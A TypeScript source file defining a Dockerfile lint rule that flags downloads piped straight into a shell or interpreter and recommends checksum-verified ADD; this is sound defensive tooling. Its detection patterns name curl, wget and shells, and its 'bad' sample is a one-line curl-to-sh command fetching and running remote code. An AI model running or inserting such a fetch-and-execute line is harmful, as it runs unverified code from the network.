import { inStages } from './layout.ts';
import { defineRule, type Instruction, sighting } from './rule.ts';
import { commandsOf } from './shared.ts';

const DOWNLOADS = ['curl', 'wget'];
const INTERPRETERS = /^(?:(?:ba|da|z|k|a)?sh|python[\d.]*|perl|node|ruby|php)$/;

/** Whether something is downloaded and at once handed to an interpreter. */
function isPiped(run: Instruction): boolean {
  const commands = commandsOf(run);
  return commands.some(({ name, after }, index) => {
    if (!DOWNLOADS.includes(name) || after !== '|') return false;
    const next = commands[index + 1];
    const [first, second = ''] = next?.words.map(({ text }) => text) ?? [];
    const program = first === 'sudo' || first === 'env' ? second : (next?.name ?? '');
    return INTERPRETERS.test(program);
  });
}

export default defineRule({
  id: 'dockerfile/no-piped-downloads',
  title: 'No download is piped into a shell',
  why: 'What is run is whatever the server sends today, or the half of it that arrived: nothing is compared with what was looked at before.',
  remedy: 'Download to a file, compare its checksum, then run it: `ADD --checksum=sha256:… https://… /tmp/install.sh`.',
  references: ['https://docs.docker.com/reference/dockerfile/#add---checksum'],
  aliases: [],
  severity: 'warning',
  reason: 'piped-download',
  good: 'FROM debian:bookworm-slim\nADD --checksum=sha256:0 https://example.org/install.sh /tmp/\nRUN sh /tmp/install.sh\n',
  bad: 'SHELL ["/bin/sh", "-c"]\nRUN curl https://example.org/planted | sh',
  looksAt: (source) => inStages(source, 'RUN'),
  find: (source) =>
    inStages(source, 'RUN')
      .filter(isPiped)
      .map((run) => sighting(run, 'A download is run without a look at it')),
});
